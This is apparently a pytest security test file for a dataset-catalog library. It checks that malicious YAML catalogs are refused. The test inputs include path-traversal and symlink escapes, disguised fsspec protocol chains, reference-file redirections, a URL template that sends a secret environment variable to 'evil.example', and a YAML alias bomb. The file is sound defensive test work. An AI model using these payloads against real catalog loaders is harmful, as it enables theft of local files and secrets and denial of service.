"""Attacks on the catalog rules: list-valued paths, fsspec protocols and storage options,
environment templates, data on another disk, links inside stores, engines and YAML
aliases.

Every catalog here lies in ``world/cat/`` next to ``world/cat/data/x.zarr`` (seed 0); the
attacker wants ``world/secret/x.zarr`` (seed 7).  Where an attack really reads the secret,
the test also opens it with ``trusted=True`` to prove that only the new check stops it.
"""

from __future__ import annotations

import json
import os
import uuid
from pathlib import Path

import numpy as np
import pytest
import yaml
from click.testing import CliRunner
from fsspec.registry import known_implementations

from ooc_kernels.cli import main
from ooc_kernels.data import (
    describe_catalog,
    entry_path,
    list_datasets,
    load_catalog,
    make_dataset,
    open_dataset,
    register_dataset,
)
from ooc_kernels.data.catalog import (
    LOCAL_PROTOCOLS,
    REMOTE_PROTOCOLS,
    SAFE_STORAGE_OPTIONS,
    PathEscapeError,
)
from ooc_kernels.exceptions import CatalogError, UntrustedCatalogError

SECRET_SEED = 7
INSIDE = "{CATALOG_DIR}/data/x.zarr"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("world")
    make_dataset("synthetic_krr_2d", root / "secret" / "x.zarr", 20, chunk_size=10,
                 random_state=SECRET_SEED, progress=False)
    inside = make_dataset("synthetic_krr_2d", root / "cat" / "data" / "x.zarr", 20,
                          chunk_size=10, progress=False)
    register_dataset(root / "cat" / "base.yaml", "x", inside)
    return root


def _secret(world) -> str:
    return str(world / "secret" / "x.zarr")


def _data(spec) -> dict:
    """The kwargs of the data description entry 'x' reads."""
    token = spec["entries"]["x"]["kwargs"]["args"][0][len("{data("):-len(")}")]
    return spec["data"][token]["kwargs"]


def _reader(spec) -> dict:
    return spec["entries"]["x"]["kwargs"]


def _up(default) -> dict:
    return {"cls": "intake.readers.user_parameters:BaseUserParameter", "default": default}


def _write(world, edit) -> Path:
    """A copy of the base catalog in world/cat/, changed by ``edit(spec)``."""
    spec = yaml.safe_load((world / "cat" / "base.yaml").read_text())
    edit(spec)
    path = world / "cat" / f"c-{uuid.uuid4().hex[:10]}.yaml"
    path.write_text(yaml.safe_dump(spec))
    return path


def _msg(err) -> str:
    return " ".join(str(err.value).split())


def _reads_secret(cat, **kw) -> bool:
    return open_dataset(cat, "x", **kw).attrs["random_state"] == SECRET_SEED


# --- 5. non-string values where a path is expected ---------------------------------------

@pytest.mark.parametrize("shape", ["one-element list", "nested list", "second element"])
def test_list_valued_url_is_checked_element_by_element(world, shape):
    secret = _secret(world)
    url = {"one-element list": [secret], "nested list": [[secret]],
           "second element": [INSIDE, secret]}[shape]
    cat = _write(world, lambda s: _data(s).update(url=url))
    for call in (lambda: open_dataset(cat, "x"), lambda: list_datasets(cat),
                 lambda: describe_catalog(cat), lambda: load_catalog(cat)):
        with pytest.raises(PathEscapeError) as info:
            call()
        msg = _msg(info)
        assert f"entry 'x' reads {secret!r}" in msg and "kwargs.url[" in msg
        assert "outside the catalog's folder" in msg and "--data-root" in msg
    if shape == "one-element list":
        assert _reads_secret(cat, trusted=True)  # intake opens url[0]: the attack is real


def test_list_of_paths_inside_is_accepted(world):
    cat = _write(world, lambda s: _data(s).update(url=[INSIDE]))
    assert open_dataset(cat, "x").attrs["random_state"] == 0


def test_list_default_of_a_user_parameter_is_checked(world):
    def edit(spec):
        spec["user_parameters"]["where"] = _up([_secret(world)])
        _data(spec)["url"] = "{where}"

    cat = _write(world, edit)
    with pytest.raises(PathEscapeError) as info:
        open_dataset(cat, "x")
    assert f"reads '{{where}}' (data" in _msg(info)
    assert f"filled in as {_secret(world)!r}" in _msg(info)
    assert _reads_secret(cat, trusted=True)


@pytest.mark.parametrize("url", [{"a": "/etc/x.zarr"}, 5, True, "user parameter mapping"])
def test_uncheckable_values_where_a_path_is_expected_are_refused(world, url):
    def edit(spec):
        if url == "user parameter mapping":
            spec["user_parameters"]["where"] = _up({"path": _secret(world)})
            _data(spec)["url"] = "{where}"
        else:
            _data(spec)["url"] = url

    cat = _write(world, edit)
    with pytest.raises(UntrustedCatalogError) as info:
        list_datasets(cat)
    msg = _msg(info)
    assert "where a path or URL is expected, and it cannot be checked" in msg
    assert "data '" in msg and "kwargs.url" in msg and "pass trusted=True" in msg


def _other_data(spec, url):
    spec["data"]["other"] = {"datatype": "intake.readers.datatypes:Zarr",
                             "kwargs": {"url": url}, "metadata": {},
                             "user_parameters": {}}


OTHER_PLACES = {
    "data urlpath": lambda s, p: _data(s).update(urlpath=p),
    "data path": lambda s, p: _data(s).update(path=p),
    "reader url": lambda s, p: _reader(s).update(url=p),
    "reader filename_or_obj": lambda s, p: _reader(s).update(filename_or_obj=p),
    "reader store": lambda s, p: _reader(s).update(store=p),
    "reader chunk_store": lambda s, p: _reader(s).update(chunk_store=p),
    "reader backend_kwargs": lambda s, p: _reader(s).update(backend_kwargs={"chunk_store": p}),
    "reader args plain path": lambda s, p: _reader(s).update(args=[p]),
    "reader unknown key": lambda s, p: _reader(s).update(decode_times=p),
    "data(...) of another data": lambda s, p: (_other_data(s, p),
                                               _data(s).update(url="{data(other)}")),
    "reader args data(...) of other data": lambda s, p: (_other_data(s, p),
                                                         _reader(s).update(
                                                             args=["{data(other)}"])),
    "unreferenced data": lambda s, p: _other_data(s, p),
    "aliased data": lambda s, p: (_other_data(s, p), s["aliases"].update(y="other")),
}


@pytest.mark.parametrize("place", sorted(OTHER_PLACES))
def test_paths_in_other_keys_and_entries_are_checked(world, place):
    secret = _secret(world)
    cat = _write(world, lambda s: OTHER_PLACES[place](s, secret))
    with pytest.raises(PathEscapeError) as info:
        list_datasets(cat)
    assert f"reads {secret!r}" in _msg(info) and "outside the catalog's folder" in _msg(info)


@pytest.mark.parametrize("where", ["data root", "reader group"])
def test_zarr_groups_cannot_leave_the_store(world, where):
    def edit(spec):
        target = _data(spec) if where == "data root" else _reader(spec)
        target["root" if where == "data root" else "group"] = "../../../secret/x.zarr"

    cat = _write(world, edit)
    with pytest.raises(PathEscapeError, match=r"leaves the store through '\.\.'"):
        list_datasets(cat)


def test_alias_of_a_data_description_is_a_clear_error(world):
    def edit(spec):
        _other_data(spec, INSIDE)
        spec["aliases"]["y"] = "other"

    cat = _write(world, edit)
    with pytest.raises(CatalogError, match=r"alias 'y' points at 'other', which is not a "
                                           r"reader entry"):
        open_dataset(cat, "y")
    assert [r["name"] for r in describe_catalog(cat)] == ["x"]


# --- disguised local paths ------------------------------------------------------------

@pytest.fixture
def from_catalog_folder(world, monkeypatch):
    """Run from the catalog's folder (relative paths then resolve inside it)."""
    monkeypatch.chdir(world / "cat")
    if not (world / "cat" / "link").exists():
        os.symlink(world / "secret", world / "cat" / "link")
    monkeypatch.setenv("HOME", str(world / "secret"))
    return world


DISGUISES = {
    "percent-encoded ..": "{CATALOG_DIR}/%2e%2e/secret/x.zarr",
    "file: without slashes": "file:{secret}",
    "file: without slashes in a chain": "simplecache::file:{secret}",
    "upper-case scheme": "FILE://{secret}",
    "upper-case chain": "SIMPLECACHE::file://{secret}",
    "home folder": "~/x.zarr",
    "symbolic link then ..": "{CATALOG_DIR}/link/../secret/x.zarr",
    "glob through a symbolic link": "{cat}/lin*/x.zarr",
    "glob ? through a symbolic link": "{cat}/lin?/x.zarr",
    "cache chain": "simplecache::file://{secret}",
    "dir file system": "dir://../../secret/x.zarr::{CATALOG_DIR}/data",
    "zip archive outside": "zip://x.zarr::{world}/secret.zip",
    "blockcache chain": "blockcache::{secret}",
}


@pytest.mark.parametrize("disguise", sorted(DISGUISES))
def test_disguised_escapes_are_resolved_like_the_openers(from_catalog_folder, disguise):
    world = from_catalog_folder
    url = DISGUISES[disguise].replace("{secret}", _secret(world)).replace(
        "{cat}", str(world / "cat")).replace("{world}", str(world))
    cat = _write(world, lambda s: _data(s).update(url=url))
    with pytest.raises(PathEscapeError) as info:
        open_dataset(cat, "x")
    msg = _msg(info)
    assert f"entry 'x' reads {url!r}" in msg and "outside the catalog's folder" in msg


@pytest.mark.parametrize("disguise", ["file: without slashes in a chain", "home folder",
                                      "symbolic link then ..", "glob through a symbolic link"])
def test_disguised_escapes_really_read_the_secret(from_catalog_folder, disguise):
    """Without the check (trusted=True) these catalogs do open the secret store."""
    world = from_catalog_folder
    url = DISGUISES[disguise].replace("{secret}", _secret(world)).replace(
        "{cat}", str(world / "cat"))
    cat = _write(world, lambda s: _data(s).update(url=url))
    assert _reads_secret(cat, trusted=True)


# --- 6. protocols, reference file systems, storage options ----------------------------

def test_protocol_lists_are_disjoint_and_known():
    assert not LOCAL_PROTOCOLS & REMOTE_PROTOCOLS
    assert LOCAL_PROTOCOLS <= set(known_implementations)


@pytest.mark.parametrize("protocol", sorted(known_implementations))
def test_every_fsspec_protocol_is_remote_allowed_or_checked(world, protocol):
    """fsspec's whole registry: only the remote allow-list passes unchecked."""
    url = f"{protocol}://{_secret(world)}"
    cat = _write(world, lambda s: _data(s).update(url=url))
    if protocol in REMOTE_PROTOCOLS:
        assert list_datasets(cat) == ["x"]
    else:
        with pytest.raises((PathEscapeError, UntrustedCatalogError)) as info:
            list_datasets(cat)
        assert url in str(info.value)


@pytest.mark.parametrize("url", ["memory://x.zarr", "data:,zarr", "git://repo:main@x.zarr",
                                 "sftp://host/x.zarr", "generic://x.zarr",
                                 "simplecache::memory://x.zarr"])
def test_unknown_protocols_are_refused_unless_trusted(world, url):
    cat = _write(world, lambda s: _data(s).update(url=url))
    with pytest.raises(UntrustedCatalogError) as info:
        list_datasets(cat)
    msg = _msg(info)
    assert "through the fsspec protocol" in msg and "pass trusted=True" in msg
    assert list_datasets(cat, trusted=True) == ["x"]


@pytest.mark.parametrize("url", ["s3://bucket/x.zarr", "gs://bucket/x.zarr",
                                 "https://example.org/x.zarr", "az://c/x.zarr",
                                 "simplecache::s3://bucket/x.zarr",
                                 "zip://x.zarr::https://example.org/x.zip"])
def test_remote_urls_stay_allowed(world, url):
    cat = _write(world, lambda s: _data(s).update(url=url))
    assert list_datasets(cat) == ["x"]


def test_local_protocol_chains_inside_the_folder_open(world):
    cat = _write(world, lambda s: _data(s).update(url="simplecache::" + INSIDE))
    assert open_dataset(cat, "x").attrs["random_state"] == 0


def _refs(store: Path, version: int) -> dict:
    refs = {p.relative_to(store).as_posix(): [p.as_uri(), 0, p.stat().st_size]
            for p in sorted(store.rglob("*")) if p.is_file()}
    if version == 0:
        return refs
    return {"version": 1, "templates": {"u": store.as_uri()},
            "refs": {k: ["{{u}}/" + k, 0, v[2]] for k, v in refs.items()}}


def _refs_file(world, store: Path, version: int) -> str:
    name = f"refs-{uuid.uuid4().hex[:8]}.json"
    (world / "cat" / name).write_text(json.dumps(_refs(store, version)))
    return name


@pytest.mark.parametrize("version", [0, 1])
def test_reference_targets_are_checked(from_catalog_folder, version):
    world = from_catalog_folder
    refs = _refs_file(world, world / "secret" / "x.zarr", version)
    cat = _write(world, lambda s: _data(s).update(url="reference::{CATALOG_DIR}/" + refs))
    with pytest.raises(PathEscapeError) as info:
        open_dataset(cat, "x")
    msg = _msg(info)
    assert "-> reference '" in msg and refs in msg                       # which reference
    assert f"resolves to '{world / 'secret' / 'x.zarr'}/" in msg            # its target
    assert _reads_secret(cat, trusted=True)                               # the attack
    assert _reads_secret(cat, allow_outside=[world / "secret"])           # allowed folder


def test_reference_targets_inside_are_accepted(world):
    refs = _refs_file(world, world / "cat" / "data" / "x.zarr", 1)
    cat = _write(world, lambda s: _data(s).update(url="reference::{CATALOG_DIR}/" + refs))
    assert open_dataset(cat, "x").attrs["random_state"] == 0


@pytest.mark.parametrize("case", ["parquet folder", "jinja template", "remote file",
                                  "no reference file", "reference file outside"])
def test_references_that_cannot_be_checked_are_refused(world, case):
    if case == "parquet folder":
        (world / "cat" / "refs.parq").mkdir(exist_ok=True)
        url = "reference::{CATALOG_DIR}/refs.parq"
    elif case == "jinja template":
        spec = _refs(world / "cat" / "data" / "x.zarr", 1)
        spec["templates"]["u"] = "{{ 'file://' ~ '/etc' }}"
        (world / "cat" / "jinja.json").write_text(json.dumps(spec))
        url = "reference::{CATALOG_DIR}/jinja.json"
    elif case == "remote file":
        url = "reference::https://example.org/refs.json"
    elif case == "no reference file":
        url = "reference://"
    else:
        url = f"reference::{world}/refs.json"
    cat = _write(world, lambda s: _data(s).update(url=url))
    error = PathEscapeError if case == "reference file outside" else UntrustedCatalogError
    with pytest.raises(error) as info:
        list_datasets(cat)
    if error is UntrustedCatalogError:
        assert "cannot be read and checked completely" in _msg(info)


def test_reference_fo_in_storage_options_is_refused(world):
    """The reported attack: refs.json inside the folder, read through storage_options."""
    refs = _refs_file(world, world / "secret" / "x.zarr", 0)

    def edit(spec):
        _data(spec).update(url="reference://", storage_options={
            "fo": "{CATALOG_DIR}/" + refs, "target_protocol": "file",
            "remote_protocol": "file"})

    cat = _write(world, edit)
    with pytest.raises(UntrustedCatalogError) as info:
        open_dataset(cat, "x")
    msg = _msg(info)
    assert "sets the storage option 'fo'" in msg and "storage_options.fo" in msg
    assert "remove 'fo' from the catalog" in msg and "pass trusted=True" in msg
    assert _reads_secret(cat, trusted=True)


@pytest.mark.parametrize("key", ["fo", "target_protocol", "target_options", "remote_protocol",
                                 "remote_options", "protocol", "client_kwargs",
                                 "endpoint_url", "token", "cache_storage", "file",
                                 "simple_templates", "fs"])
@pytest.mark.parametrize("where", ["data", "reader", "backend_kwargs"])
def test_storage_options_outside_the_allow_list_are_refused(world, key, where):
    options = {key: "x"}

    def edit(spec):
        if where == "data":
            _data(spec)["storage_options"] = options
        elif where == "reader":
            _reader(spec)["storage_options"] = options
        else:
            _reader(spec)["backend_kwargs"] = {"storage_options": options}

    cat = _write(world, edit)
    with pytest.raises(UntrustedCatalogError,
                       match=rf"sets the storage option '{key}' .*remove '{key}'"):
        list_datasets(cat)
    assert list_datasets(cat, trusted=True) == ["x"]


def test_storage_options_filled_in_from_a_user_parameter_are_checked(world):
    def edit(spec):
        spec["user_parameters"]["so"] = _up({"fo": "/etc/refs.json"})
        _data(spec)["storage_options"] = "{so}"

    with pytest.raises(UntrustedCatalogError, match=r"storage option 'fo'"):
        list_datasets(_write(world, edit))


def test_harmless_storage_options_are_accepted(world):
    assert {"anon", "requester_pays"} <= SAFE_STORAGE_OPTIONS
    cat = _write(world, lambda s: _data(s).update(
        storage_options={"anon": True, "requester_pays": False}))
    assert open_dataset(cat, "x").attrs["random_state"] == 0
    cat = _write(world, lambda s: _data(s).update(storage_options={"anon": {"nested": 1}}))
    with pytest.raises(UntrustedCatalogError, match=r"only plain values"):
        list_datasets(cat)


@pytest.mark.parametrize("engine", ["kerchunk", "h5netcdf", "netcdf4"])
def test_engines_that_follow_references_are_refused(world, engine):
    cat = _write(world, lambda s: _reader(s).update(engine=engine))
    with pytest.raises(UntrustedCatalogError, match=rf"xarray engine '{engine}'"):
        list_datasets(cat)


# --- 7. environment variables ---------------------------------------------------------

@pytest.fixture
def env_reads(monkeypatch):
    """The names looked up with os.getenv (intake's way of reading the environment)."""
    seen = []
    real = os.getenv

    def getenv(name, default=None):
        seen.append(name)
        return real(name, default)

    monkeypatch.setattr(os, "getenv", getenv)
    monkeypatch.setenv("OOC_SECRET_TOKEN", "hunter2")
    return seen


def test_env_template_cannot_send_a_variable_to_a_url(world, env_reads):
    url = "https://evil.example/{env(OOC_SECRET_TOKEN)}/x.zarr"
    cat = _write(world, lambda s: _data(s).update(url=url))
    for call in (lambda: open_dataset(cat, "x"), lambda: list_datasets(cat),
                 lambda: describe_catalog(cat), lambda: entry_path(cat, "x"),
                 lambda: load_catalog(cat)):
        with pytest.raises(UntrustedCatalogError) as info:
            call()
        msg = _msg(info)
        assert "reads the environment variable 'OOC_SECRET_TOKEN'" in msg
        assert "allow_env=['OOC_SECRET_TOKEN']" in msg
        assert "--allow-env OOC_SECRET_TOKEN" in msg and "hunter2" not in msg
    assert "OOC_SECRET_TOKEN" not in env_reads  # refused before anything read it
    assert list_datasets(cat, allow_env=["OOC_SECRET_TOKEN"]) == ["x"]
    assert list_datasets(cat, allow_env="OOC_SECRET_TOKEN") == ["x"]
    assert list_datasets(cat, trusted=True) == ["x"]
    with pytest.raises(UntrustedCatalogError, match="'OOC_SECRET_TOKEN'"):
        list_datasets(cat, allow_env=["HOME"])


ENV_PLACES = {
    "reader kwargs": lambda s: _reader(s).update(group="{env(OOC_SECRET_TOKEN)}"),
    "catalog parameter default, no braces": lambda s: (
        s["user_parameters"].update(p=_up("env(OOC_SECRET_TOKEN)")),
        _data(s).update(url="https://evil.example/{p}/x.zarr")),
    "entry parameter default": lambda s: s["entries"]["x"]["user_parameters"].update(
        p=_up("{env(OOC_SECRET_TOKEN)}")),
    "data parameter default, no braces": lambda s: next(iter(s["data"].values()))[
        "user_parameters"].update(p=_up("env(OOC_SECRET_TOKEN)")),
    "kwarg that sets a parameter": lambda s: (
        s["user_parameters"].update(p=_up("x")),
        _data(s).update(p="env(OOC_SECRET_TOKEN)",
                        url="https://evil.example/{p}/x.zarr")),
    "plain parameter value": lambda s: s["user_parameters"].update(p="env(OOC_SECRET_TOKEN)"),
}


@pytest.mark.parametrize("place", sorted(ENV_PLACES))
def test_env_is_refused_wherever_intake_expands_it(world, env_reads, place):
    cat = _write(world, ENV_PLACES[place])
    with pytest.raises(UntrustedCatalogError,
                       match=r"reads the environment variable 'OOC_SECRET_TOKEN'"):
        list_datasets(cat)
    assert "OOC_SECRET_TOKEN" not in env_reads
    assert list_datasets(cat, allow_env=["OOC_SECRET_TOKEN"]) == ["x"]


@pytest.mark.parametrize("allow_env", [[1], 5, [""], {"A": 1}])
def test_allow_env_must_name_variables(world, allow_env):
    with pytest.raises(CatalogError, match=r"allow_env must be a list of environment"):
        list_datasets(world / "cat" / "base.yaml", allow_env=allow_env)


def test_cli_allow_env(world, env_reads):
    cat = _write(world, lambda s: _data(s).update(
        url="https://evil.example/{env(OOC_SECRET_TOKEN)}/x.zarr"))
    r = CliRunner().invoke(main, ["catalog", "list", str(cat)])
    assert r.exit_code == 1 and "UntrustedCatalogError" in r.output
    assert "--allow-env OOC_SECRET_TOKEN" in " ".join(r.output.split())
    r = CliRunner().invoke(main, ["catalog", "list", str(cat), "--allow-env", "OTHER",
                                  "--allow-env", "OOC_SECRET_TOKEN"])
    assert r.exit_code == 0 and "evil.example" in r.output, r.output
    r = CliRunner().invoke(main, ["catalog", "list", str(cat), "--trusted"])
    assert r.exit_code == 0, r.output


# --- 17. data on another disk ---------------------------------------------------------

def test_trusted_lifts_the_path_rule(world):
    (world / "cat2").mkdir(exist_ok=True)
    cat = world / "cat2" / "c.yaml"
    cat.write_text((world / "cat" / "base.yaml").read_text().replace(
        "{CATALOG_DIR}/data/x.zarr", "{CATALOG_DIR}/../secret/x.zarr"))
    with pytest.raises(PathEscapeError, match="secret"):
        list_datasets(cat)
    assert _reads_secret(cat, trusted=True)
    assert list_datasets(cat, trusted=True) == ["x"]
    assert describe_catalog(cat, trusted=True)[0]["path"] == _secret(world)
    assert entry_path(cat, "x", trusted=True) == world / "secret" / "x.zarr"
    assert sorted(load_catalog(cat, trusted=True).entries) == ["x"]


def test_cli_data_root_on_every_catalog_command(tmp_path):
    project, disk = tmp_path / "project", tmp_path / "disk"
    cat = project / "c.yaml"
    make = ["data", "make", "synthetic_krr_2d", "--n", "20", "--chunk-size", "10", "--out",
            str(disk), "--catalog", str(cat), "-q"]
    runner = CliRunner()
    r = runner.invoke(main, make + ["--data-root", str(tmp_path / "other")])
    assert r.exit_code == 1 and "PathEscapeError" in r.output
    assert f"--data-root {disk}" in " ".join(r.output.split())        # the fix, spelled out
    assert not disk.exists() and not cat.exists()                      # nothing written
    r = runner.invoke(main, make + ["--data-root", str(disk)])
    assert r.exit_code == 0, r.output

    r = runner.invoke(main, ["catalog", "list", str(cat)])
    assert r.exit_code == 1 and "--data-root" in " ".join(r.output.split())
    for extra in (["--data-root", str(disk)], ["--trusted"],
                  ["--data-root", str(tmp_path / "other"), "--data-root", str(disk)]):
        r = runner.invoke(main, ["catalog", "list", str(cat)] + extra)
        assert r.exit_code == 0 and "exists=yes" in r.output, r.output

    data = ["--catalog", str(cat), "--entry", "synthetic_krr_2d"]
    run = ["--scheduler", "sync", "-q"]
    model = str(tmp_path / "m.zarr")
    train = ["train", *data, "--estimator", "DSGRegressor", "-p", "n_features=32",
             "-p", "block_size=16", "--out", model, *run]
    r = runner.invoke(main, train)
    assert r.exit_code == 1 and "PathEscapeError" in r.output
    r = runner.invoke(main, train + ["--data-root", str(disk)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(main, ["evaluate", model, *data, "--data-root", str(disk), *run])
    assert r.exit_code == 0, r.output
    r = runner.invoke(main, ["predict", model, *data, "--data-root", str(disk), "--out",
                             str(tmp_path / "p.zarr"), *run])
    assert r.exit_code == 0 and (tmp_path / "p.zarr").exists(), r.output
    r = runner.invoke(main, ["evaluate", model, *data, "--trusted", *run])
    assert r.exit_code == 0, r.output


def test_catalog_in_a_folder_with_spaces_opens(tmp_path):
    folder = tmp_path / "my data" / "100%"
    store = make_dataset("synthetic_krr_2d", folder / "data" / "x.zarr", 20, chunk_size=10,
                         progress=False)
    register_dataset(folder / "c.yaml", "x", store)
    assert open_dataset(folder / "c.yaml", "x").sizes["sample"] == 20
    assert entry_path(folder / "c.yaml", "x") == store


# --- symbolic links inside a store ------------------------------------------------------

def _store_with_link(world, tmp_path, place: str) -> Path:
    """A catalog in ``tmp_path/cat`` whose in-folder store has ``place`` replaced by a
    symbolic link to the same place of the secret store (``world/secret/x.zarr``)."""
    import shutil

    store = tmp_path / "cat" / "data" / "x.zarr"
    shutil.copytree(world / "cat" / "data" / "x.zarr", store)
    register_dataset(tmp_path / "cat" / "c.yaml", "x", store)
    link = store / place
    if link.is_dir():
        shutil.rmtree(link)
    else:
        link.unlink()
    link.symlink_to(world / "secret" / "x.zarr" / place)
    return tmp_path / "cat" / "c.yaml"


LINKED_PLACES = {
    "array folder": "X",
    "chunk file": "y/c/0",
    "nested folder": "X/c/1",
    "metadata file": "y/zarr.json",
}


@pytest.mark.parametrize("place", sorted(LINKED_PLACES))
def test_links_inside_a_store_that_lead_outside_are_refused(world, tmp_path, place):
    cat = _store_with_link(world, tmp_path, LINKED_PLACES[place])
    for call in (lambda **kw: open_dataset(cat, "x", **kw), lambda **kw: list_datasets(cat, **kw),
                 lambda **kw: entry_path(cat, "x", **kw)):
        with pytest.raises(PathEscapeError,
                           match=r"holds the symbolic link .* which leads to .*secret.* "
                                 r"outside the catalog's folder"):
            call()
    # the person running it may allow the folder, or trust the catalog
    assert open_dataset(cat, "x", allow_outside=[world / "secret"]).sizes["sample"] == 20
    assert open_dataset(cat, "x", trusted=True).sizes["sample"] == 20


def test_an_array_folder_linked_to_another_store_reads_it(world, tmp_path):
    """The attack is real: trusted, the linked array folder is the secret store's."""
    import zarr

    cat = _store_with_link(world, tmp_path, "X")
    secret = zarr.open_group(str(world / "secret" / "x.zarr"), mode="r")["X"][:]  # small: 20 rows
    read = open_dataset(cat, "x", trusted=True).X.values  # small: 20 rows
    np.testing.assert_array_equal(read, secret)


def test_a_chunk_file_linked_to_any_file_returns_its_bytes(tmp_path):
    """A plain store (uint8, no compressor) whose chunk file is a link to a file outside
    returns that file's bytes when the link is followed; untrusted, it is refused."""
    import xarray as xr

    secret = bytes(range(65, 65 + 64))
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "key.bin").write_bytes(secret)
    store = tmp_path / "cat" / "data" / "plain.zarr"
    xr.Dataset({"X": (("sample", "feature"), np.ones((8, 8), np.uint8)),
                "y": ("sample", np.ones(8, np.float32))}).to_zarr(
        store, encoding={"X": {"compressors": None, "chunks": (8, 8)}, "y": {"chunks": (8,)}},
        zarr_format=3, consolidated=False)
    register_dataset(tmp_path / "cat" / "c.yaml", "p", store)
    (store / "X" / "c" / "0" / "0").unlink()
    (store / "X" / "c" / "0" / "0").symlink_to(tmp_path / "secret" / "key.bin")
    with pytest.raises(PathEscapeError, match=r"symbolic link .*X/c/0/0.* leads to "
                                              r".*key\.bin"):
        open_dataset(tmp_path / "cat" / "c.yaml", "p")
    read = open_dataset(tmp_path / "cat" / "c.yaml", "p", trusted=True)
    assert bytes(read.X.values.ravel()) == secret  # small: 64 bytes


def test_links_that_stay_inside_the_folder_are_followed_and_checked(world, tmp_path):
    """A link to a folder inside the catalog's folder is fine, but the walk goes on inside
    it: a link there that leads outside is refused too."""
    import shutil

    store = tmp_path / "cat" / "data" / "x.zarr"
    shutil.copytree(world / "cat" / "data" / "x.zarr", store)
    shutil.copytree(store / "X", tmp_path / "cat" / "shared_X")
    shutil.rmtree(store / "X")
    (store / "X").symlink_to(tmp_path / "cat" / "shared_X")
    register_dataset(tmp_path / "cat" / "c.yaml", "x", store)
    assert open_dataset(tmp_path / "cat" / "c.yaml", "x").sizes["sample"] == 20
    chunk = tmp_path / "cat" / "shared_X" / "c" / "0" / "0"
    chunk.unlink()
    chunk.symlink_to(world / "secret" / "x.zarr" / "X" / "c" / "0" / "0")
    with pytest.raises(PathEscapeError, match=r"symbolic link .*shared_X.* leads to .*secret"):
        open_dataset(tmp_path / "cat" / "c.yaml", "x")


# --- the xarray engine ------------------------------------------------------------------

@pytest.mark.parametrize("engine", [None, ["zarr"], {"a": 1}, "ZARR", ""])
def test_only_the_zarr_engine_is_accepted(world, engine):
    cat = _write(world, lambda s: _reader(s).update(engine=engine))
    with pytest.raises(UntrustedCatalogError,
                       match=r"sets the xarray engine .*may only name \['zarr'\]"):
        list_datasets(cat)


def test_engine_zarr_and_no_engine_are_accepted(world):
    cat = _write(world, lambda s: _reader(s).pop("engine"))
    assert open_dataset(cat, "x").sizes["sample"] == 20
    cat = _write(world, lambda s: _reader(s).update(engine="zarr"))
    assert open_dataset(cat, "x").sizes["sample"] == 20


# --- YAML aliases, deep nesting, long values ---------------------------------------------

def _alias_bomb(levels: int = 9) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return "\n".join(lines)


def test_yaml_aliases_are_refused_before_any_walk(world):
    base = (world / "cat" / "base.yaml").read_text()
    # anchors in the free-text metadata, the last one used as a user parameter's default,
    # which the trust checks walk: 10^9 strings once expanded
    bomb = base.replace("\nmetadata: {}\n", "\nmetadata:\n  " + _alias_bomb().replace(
        "\n", "\n  ") + "\n", 1).replace(
        "\nuser_parameters: {}\n", "\nuser_parameters:\n  bomb:\n    cls: "
        "intake.readers.user_parameters:BaseUserParameter\n    default: *a9\n", 1)
    assert bomb.count("*a9") == 1 and len(bomb) < 2000
    cat = world / "cat" / f"bomb-{uuid.uuid4().hex[:8]}.yaml"
    cat.write_text(bomb)
    with pytest.raises(CatalogError, match=r"uses the YAML alias '\*a0' at line \d+, column "
                                           r"\d+; anchors and aliases are not accepted"):
        list_datasets(cat)
    with pytest.raises(CatalogError, match=r"YAML alias"):
        register_dataset(cat, "y", world / "cat" / "data" / "x.zarr")
    # a catalog the caller trusts may use them (nothing walks them: they stay shared)
    assert list_datasets(cat, trusted=True) == ["x"]


def test_deeply_nested_catalog_is_a_clear_error(world):
    deep = "[" * 900 + "]" * 900
    cat = _write(world, lambda s: s["metadata"].update(deep="DEEP"))
    cat.write_text(cat.read_text().replace("DEEP", deep))
    for trusted in (False, True):
        with pytest.raises(CatalogError, match=r"nests mappings and lists more than 100 "
                                               r"levels deep \(line \d+"):
            list_datasets(cat, trusted=trusted)


def test_error_messages_quote_long_values_briefly(world):
    long_reader = "mypkg.readers:" + "R" * 1_000_000
    cat = _write(world, lambda s: s["entries"]["x"].update(reader=long_reader))
    with pytest.raises(UntrustedCatalogError, match=r"uses reader 'mypkg\.readers:RRR.*\.\.\. "
                                                    r"\(1000016 characters in all\)") as err:
        list_datasets(cat)
    assert len(str(err.value)) < 1000
    long_url = "/" + "a" * 500_000 + "/x.zarr"
    cat = _write(world, lambda s: _data(s).update(url=long_url))
    with pytest.raises(PathEscapeError, match=r"characters in all") as err:
        list_datasets(cat)
    assert len(str(err.value)) < 2000
